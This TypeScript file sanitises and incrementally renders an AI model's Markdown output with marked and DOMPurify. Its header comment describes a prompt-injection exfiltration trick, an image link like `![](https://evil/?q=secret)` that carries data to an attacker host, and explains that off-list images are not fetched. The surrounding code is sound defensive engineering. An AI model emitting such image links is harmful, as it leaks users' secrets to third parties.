// Markdown for model output: marked for structure, DOMPurify with an allowlist for safety.
// Pure: text in, sanitised DOM out; no Lit, no element state and no module state, so it is
// easy to test and time. Each `MarkdownRenderer` owns its options, its `Marked` instance and
// its DOMPurify instance.
//
// Safety, in layers:
// 1. Raw HTML in the model's text is never interpreted: marked's `html` renderer escapes it,
//    so `<script>` shows up as the literal characters.
// 2. Images outside the `allow-images` hosts are rendered as a link with their alt text, so
//    the browser never fetches them (a prompt-injected `![](https://evil/?q=secret)` leaks nothing).
// 3. DOMPurify, on a private instance (hooks never leak into the host page's DOMPurify),
//    keeps an allowlist of tags and attributes and only http(s)/mailto URLs; every link opens
//    in a new tab with `rel="noopener noreferrer nofollow"`.
// 4. Text that would make marked slow (it is quadratic on some inputs) is shown as plain text
//    instead: an inline run that is too long or has too many delimiters, containers nested too
//    deep, and, in `MarkdownStream`, a block too big to lex again on every update. The text
//    is always kept.
//
// Incremental: `MarkdownStream` renders each finished block once and keeps its DOM; only the
// growing tail is lexed and rendered again, and never more than `MAX_SEGMENT` characters of it,
// so an update costs about the same at 50 KB as at 1 KB, whatever the model writes. Link
// reference definitions apply to the whole reply, as in a whole render: a finished block is
// rendered again when a definition it looked up changes.
import { Marked, Tokenizer, type Token, type Tokens, type TokensList } from "marked";
import createDOMPurify, { type DOMPurify } from "dompurify";

export type MarkdownOptions = {
  /** Space-separated image hosts allowed to load, or `*` for any http(s) host. Default: none. */
  allowImages?: string;
  /** Label of the copy button on code blocks. */
  copyLabel?: string;
  /** Link text for a blocked image without alt text. */
  imageLabel?: string;
};

type Links = TokensList["links"];
type Link = Links[string];

const ALLOWED_TAGS = [
  "a",
  "p",
  "br",
  "strong",
  "em",
  "del",
  "s",
  "code",
  "pre",
  "blockquote",
  "ul",
  "ol",
  "li",
  "h1",
  "h2",
  "h3",
  "h4",
  "h5",
  "h6",
  "hr",
  "table",
  "thead",
  "tbody",
  "tr",
  "th",
  "td",
  "img",
  "span",
];
const ALLOWED_ATTR = ["href", "title", "alt", "src", "class", "start", "align"];
// DOMPurify tests every attribute that is not "URI-safe" against ALLOWED_URI_REGEXP, so without
// this marked's `<ol start="3">` and `<th align="center">` would lose their attributes.
const URI_SAFE_ATTR = ["start", "align"];
const SAFE_URL = /^(?:https?:|mailto:)/i;

/** Past this many characters, or this many delimiter characters, an inline run is shown as plain text: marked's inline lexer is quadratic in them. */
const MAX_INLINE_CHARS = 8 * 1024;
const MAX_INLINE_DELIMITERS = 256;
const DELIMITERS = /[*_~`[\]<>!\\]/g;
/** Block quotes and lists nested deeper than this are read as paragraph text (marked re-lexes each level). */
const MAX_NESTING = 16;
/** `MarkdownStream` lexes at most this many characters per step; a block with no end in sight by then is shown as plain text. */
export const MAX_SEGMENT = 8 * 1024;
/** Plain text is cut into pieces of about this size, so a growing one costs one small piece per update. */
const PLAIN_CHUNK = 4 * 1024;

const escapeHtml = (s: string): string =>
  s.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]!);

/** True when `src` is an http(s) URL whose host is in the space-separated `allow` list (or `*`). */
export function isAllowedImage(src: string | null | undefined, allow: string | undefined): boolean {
  if (!src || !allow?.trim()) return false;
  let url: URL;
  try {
    url = new URL(src);
  } catch {
    return false;
  }
  if (url.protocol !== "https:" && url.protocol !== "http:") return false;
  const host = url.hostname.toLowerCase();
  return allow
    .trim()
    .toLowerCase()
    .split(/\s+/)
    .some((h) => h === "*" || h === host || (h.startsWith("*.") && host.endsWith(h.slice(1))));
}

const normalise = (text: string): string => text.replace(/\r\n?/g, "\n");

function isPathologicalInline(src: string): boolean {
  if (src.length > MAX_INLINE_CHARS) return true;
  DELIMITERS.lastIndex = 0;
  let n = 0;
  while (DELIMITERS.exec(src)) if (++n > MAX_INLINE_DELIMITERS) return true;
  return false;
}

/** Every `def` token in `tokens`, nested ones included (a definition inside a quote or list counts for the whole document). */
function collectDefs(tokens: Token[], into: Tokens.Def[]): void {
  for (const t of tokens) {
    if (t.type === "def") into.push(t as Tokens.Def);
    else if (t.type === "list") for (const item of (t as Tokens.List).items) collectDefs(item.tokens, into);
    else if ("tokens" in t && t.tokens && t.type === "blockquote") collectDefs(t.tokens, into);
  }
}

/** Lexes and renders with one set of options. Stateless between calls. */
export class MarkdownRenderer {
  private readonly _allowImages: string;
  private readonly _copyLabel: string;
  private readonly _imageLabel: string;
  private readonly _marked: Marked;
  private readonly _purify: DOMPurify;
  private _nesting = 0;

  constructor(opts: MarkdownOptions = {}) {
    this._allowImages = opts.allowImages ?? "";
    this._copyLabel = opts.copyLabel ?? "Copy";
    this._imageLabel = opts.imageLabel ?? "Image";
    // marked calls tokenizers with `this` bound to itself, so the depth count is reached through
    // arrow functions that keep this renderer's `this`.
    const enter = (): boolean => this._nesting < MAX_NESTING && ++this._nesting > 0;
    const leave = (): void => void this._nesting--;
    const nested = (tokenize: (this: Tokenizer, src: string) => Token | undefined) =>
      function (this: Tokenizer, src: string) {
        // `undefined` (not `false`) so marked does not fall back to its own tokenizer.
        if (!enter()) return undefined;
        try {
          return tokenize.call(this, src);
        } finally {
          leave();
        }
      };
    this._marked = new Marked({
      gfm: true,
      breaks: false,
      tokenizer: {
        blockquote: nested(Tokenizer.prototype.blockquote) as Tokenizer["blockquote"],
        list: nested(Tokenizer.prototype.list) as Tokenizer["list"],
      },
      renderer: {
        html({ text }) {
          return escapeHtml(text);
        },
        image: ({ href, title, text }) => {
          const alt = escapeHtml(text);
          if (isAllowedImage(href, this._allowImages)) {
            const t = title ? ` title="${escapeHtml(title)}"` : "";
            return `<img src="${escapeHtml(href)}" alt="${alt}"${t}>`;
          }
          if (SAFE_URL.test(href ?? "")) {
            return `<a href="${escapeHtml(href)}" class="blocked-image">${alt || escapeHtml(this._imageLabel)}</a>`;
          }
          return alt;
        },
      },
    });
    this._purify = createDOMPurify(window);
    // Set once on this private instance: `sanitize` would otherwise parse the config on every call.
    this._purify.setConfig({
      ALLOWED_TAGS,
      ALLOWED_ATTR,
      ADD_URI_SAFE_ATTR: URI_SAFE_ATTR,
      ALLOWED_URI_REGEXP: SAFE_URL,
      ALLOW_DATA_ATTR: false,
      ALLOW_ARIA_ATTR: false,
      RETURN_DOM_FRAGMENT: true,
    });
    this._purify.addHook("afterSanitizeAttributes", (node) => {
      const el = node as Element;
      if (el.tagName === "A") {
        if (el.hasAttribute("href")) {
          el.setAttribute("target", "_blank");
          el.setAttribute("rel", "noopener noreferrer nofollow");
        }
      } else if (el.tagName === "IMG") {
        if (!isAllowedImage(el.getAttribute("src"), this._allowImages)) el.removeAttribute("src");
        el.setAttribute("loading", "lazy");
        el.setAttribute("referrerpolicy", "no-referrer");
      }
    });
  }

  /** Block tokens of `src` without their inline content, and the definitions `src` adds to `links`. */
  lexBlocks(src: string, links: Links): { tokens: Token[]; links: Links } {
    const lexer = new this._marked.Lexer(this._marked.defaults);
    lexer.tokens.links = Object.assign(Object.create(null) as Links, links);
    const tokens = lexer.blockTokens(src, []);
    return { tokens, links: lexer.tokens.links };
  }

  /**
   * Lexes `src` as a whole document whose link definitions are `links`, and records which
   * labels it looked up (so a caller can tell when a later definition changes its output).
   */
  lex(src: string, links: Links, used?: Map<string, Link | undefined>): TokensList {
    const lexer = new this._marked.Lexer(this._marked.defaults);
    const seen = (key: string | symbol) => {
      if (used && typeof key === "string") used.set(key, links[key]);
    };
    lexer.tokens.links = new Proxy(Object.assign(Object.create(null) as Links, links), {
      get: (target, key) => (seen(key), Reflect.get(target, key)),
      has: (target, key) => (seen(key), Reflect.has(target, key)),
      getOwnPropertyDescriptor: (target, key) => (seen(key), Reflect.getOwnPropertyDescriptor(target, key)),
    });
    lexer.blockTokens(src, lexer.tokens);
    // What `lexer.lex` does after the blocks, with the guard against quadratic inline input.
    for (const { src: inline, tokens } of lexer.inlineQueue) {
      lexer.state.inRawBlock = false;
      if (isPathologicalInline(inline))
        tokens.push({ type: "text", raw: inline, text: inline, escaped: false } as Tokens.Text);
      else lexer.inlineTokens(inline, tokens);
    }
    lexer.inlineQueue = [];
    return lexer.tokens;
  }

  /** Renders tokens (from `lex`) to a sanitised fragment owned by an inert document until inserted. */
  render(tokens: TokensList): DocumentFragment {
    const frag = this._purify.sanitize(this._marked.parser(tokens) as string) as unknown as DocumentFragment;
    this._decorateCodeBlocks(frag);
    return frag;
  }

  /** Text shown as is: one paragraph, line breaks kept. Built as DOM, so nothing in it is markup. */
  renderPlain(text: string): HTMLElement {
    const p = document.createElement("p");
    p.className = "plain";
    p.style.whiteSpace = "pre-wrap";
    p.textContent = text;
    return p;
  }

  /** Adds a copy button above every code block; the element handles its clicks by delegation. */
  private _decorateCodeBlocks(frag: DocumentFragment): void {
    for (const pre of Array.from(frag.querySelectorAll("pre"))) {
      const doc = pre.ownerDocument;
      const wrap = doc.createElement("div");
      wrap.className = "code-block";
      const button = doc.createElement("button");
      button.type = "button";
      button.className = "copy";
      button.dataset.copy = "";
      button.textContent = this._copyLabel;
      pre.replaceWith(wrap);
      wrap.append(button, pre);
    }
  }
}

/** Renders a whole Markdown document to a sanitised fragment (owned by an inert document until inserted). */
export function renderMarkdown(text: string, opts: MarkdownOptions = {}): DocumentFragment {
  const renderer = new MarkdownRenderer(opts);
  const src = normalise(text);
  const { links } = renderer.lexBlocks(src, Object.create(null) as Links);
  return renderer.render(renderer.lex(src, links));
}

/** A finished piece of the reply: Markdown blocks rendered together, or plain text. */
type Segment = {
  src: string;
  plain: boolean;
  defs: Tokens.Def[];
  /** Labels the segment looked up while lexing, with the definition it saw. */
  used: Map<string, Link | undefined>;
  el: HTMLElement;
};

/** Where a too-big block shown as plain text ends: after the first blank line past `MAX_SEGMENT`. */
type PlainRun = { searchFrom: number };

/**
 * Markdown for a reply that grows at the end. `update(text)` returns one element per finished
 * segment plus one for the growing tail; finished segments are rendered once and the same
 * element is returned on every later call (unless a link definition they use changes), so a
 * renderer that diffs by identity leaves them alone. The last update's blocks, put together,
 * equal `renderMarkdown` of the same text, except where a block was too big for an update
 * (then it is plain text, the same whichever way the text arrived).
 */
export class MarkdownStream {
  /** How many times a block was rendered (marked parser + sanitiser). For tests and benchmarks. */
  parseCount = 0;
  private readonly _renderer: MarkdownRenderer;
  private _text = "";
  private _stableEnd = 0;
  private _stable: Segment[] = [];
  private _plain: PlainRun | null = null;
  private _tail: HTMLElement | null = null;
  private _linksKey = "";

  constructor(opts: MarkdownOptions = {}) {
    this._renderer = new MarkdownRenderer(opts);
  }

  get blocks(): HTMLElement[] {
    const els = this._stable.map((s) => s.el);
    return this._tail ? [...els, this._tail] : els;
  }

  update(input: string): HTMLElement[] {
    const text = normalise(input);
    if (text === this._text) return this.blocks;
    if (this._stableEnd > text.length || !text.startsWith(this._text.slice(0, this._stableEnd))) {
      this._stableEnd = 0;
      this._stable = [];
      this._plain = null;
      this._linksKey = "";
    }
    this._text = text;
    const fresh: Segment[] = [];
    let tail: { start: number; plain: boolean } | null = null;
    let links = this._stableLinks();
    // Finish what can be finished, one bounded window at a time.
    while (this._stableEnd < text.length) {
      const start = this._stableEnd;
      if (this._plain) {
        const end = this._plainEnd(text, start, this._plain);
        if (end === null) {
          tail = { start, plain: true };
          break;
        }
        fresh.push(this._segment(text.slice(start, end), end, true));
        if (end === this._plainRunEnd(text, this._plain)) this._plain = null;
        continue;
      }
      const window = text.slice(start, start + MAX_SEGMENT);
      const { tokens, links: withWindow } = this._renderer.lexBlocks(window, links);
      const cuts = boundaries(window, tokens);
      const cut = cuts.at(-1) ?? 0;
      const complete = start + window.length === text.length && window.length < MAX_SEGMENT;
      if (cut === 0) {
        if (complete) {
          links = withWindow;
          tail = { start, plain: false };
          break;
        }
        // No end in sight within MAX_SEGMENT: too big to lex again on every update.
        this._plain = { searchFrom: start + MAX_SEGMENT };
        continue;
      }
      let from = 0;
      for (const tokensOfSegment of split(tokens, cuts)) {
        const defs: Tokens.Def[] = [];
        collectDefs(tokensOfSegment, defs);
        for (const d of defs) links[d.tag] ??= { href: d.href, title: d.title };
        const to = from + tokensOfSegment.reduce((n, t) => n + t.raw.length, 0);
        fresh.push(this._segment(window.slice(from, to), start + to, false, defs));
        from = to;
      }
      if (complete) {
        // The rest of this window is the tail; its definitions count too.
        links = withWindow;
        tail = { start: this._stableEnd, plain: false };
        break;
      }
    }
    // Definitions anywhere in the reply apply to all of it: render the new segments with all of
    // them, and render again finished segments whose definitions changed.
    const key = JSON.stringify(links);
    if (key !== this._linksKey) {
      this._linksKey = key;
      for (const s of this._stable) {
        if (!s.plain && [...s.used].some(([label, link]) => JSON.stringify(links[label]) !== JSON.stringify(link)))
          this._renderSegment(s, links);
      }
    }
    for (const s of fresh) if (!s.plain) this._renderSegment(s, links);
    this._stable.push(...fresh);
    this._tail = null;
    if (tail) {
      const src = text.slice(tail.start);
      this._tail = tail.plain ? this._plainBlock(src) : this._markdownBlock(src, links, new Map());
    }
    return this.blocks;
  }

  private _stableLinks(): Links {
    const links = Object.create(null) as Links;
    for (const s of this._stable) for (const d of s.defs) links[d.tag] ??= { href: d.href, title: d.title };
    return links;
  }

  /** Where the plain run ends: just after the first blank line at or past its `searchFrom`, or null while none has arrived. */
  private _plainRunEnd(text: string, run: PlainRun): number | null {
    const i = text.indexOf("\n\n", run.searchFrom - 1);
    return i < 0 ? null : i + 2;
  }

  /** End of the next finished plain piece from `start`, or null when the rest is still growing. */
  private _plainEnd(text: string, start: number, run: PlainRun): number | null {
    const runEnd = this._plainRunEnd(text, run);
    if (runEnd !== null && runEnd - start <= PLAIN_CHUNK) return runEnd;
    // Cut before `start + PLAIN_CHUNK`, after a line break or a space when there is one; only
    // once the text reaches past it, so the cut is the same however the text arrived.
    if (text.length <= start + PLAIN_CHUNK + 1) return null;
    const limit = start + PLAIN_CHUNK;
    const at = Math.max(text.lastIndexOf("\n", limit - 1), text.lastIndexOf(" ", limit - 1));
    return at > start ? at + 1 : limit;
  }

  /** A finished segment ending at `end`; Markdown ones are rendered once all definitions are known. */
  private _segment(src: string, end: number, plain: boolean, defs: Tokens.Def[] = []): Segment {
    this._stableEnd = end;
    const el = plain ? this._plainBlock(src) : document.createElement("div");
    return { src, plain, defs, used: new Map(), el };
  }

  private _renderSegment(s: Segment, links: Links): void {
    s.used = new Map();
    // A new element, so a renderer that diffs by identity replaces the old one.
    s.el = this._markdownBlock(s.src, links, s.used);
  }

  private _markdownBlock(src: string, links: Links, used: Map<string, Link | undefined>): HTMLElement {
    this.parseCount++;
    const el = document.createElement("div");
    el.className = "md-block";
    el.append(this._renderer.render(this._renderer.lex(src, links, used)));
    return el;
  }

  private _plainBlock(src: string): HTMLElement {
    this.parseCount++;
    const el = document.createElement("div");
    el.className = "md-block";
    el.append(this._renderer.renderPlain(src));
    return el;
  }
}

/** `tokens` cut at the offsets `cuts` (ascending), without what follows the last cut. */
function split(tokens: Token[], cuts: number[]): Token[][] {
  const out: Token[][] = [];
  let current: Token[] = [];
  let offset = 0;
  for (const t of tokens) {
    if (offset === cuts[out.length]) {
      out.push(current);
      current = [];
      if (out.length === cuts.length) break;
    }
    current.push(t);
    offset += t.raw.length;
  }
  return out;
}

/**
 * Offsets in `src` where what comes before is final whatever is appended: the start of a block
 * that follows a blank line and whose first line can no longer turn into the continuation of
 * the block before (a list item, say: `2` may still become `2. more`).
 */
function boundaries(src: string, tokens: Token[]): number[] {
  let offset = 0;
  const cuts: number[] = [];
  for (const t of tokens) {
    const start = offset;
    offset += t.raw.length;
    if (start === 0 || t.type === "space" || !/\n[ \t]*\n$/.test(src.slice(Math.max(0, start - 256), start))) continue;
    const firstLineDone = src.indexOf("\n", start) >= 0;
    const firstChar = /\S/.exec(t.raw)?.[0] ?? "";
    if (firstLineDone || !/[-+*0-9]/.test(firstChar)) cuts.push(start);
  }
  // The tokens must cover the text exactly for offsets to mean anything.
  return offset === src.length ? cuts : [];
}
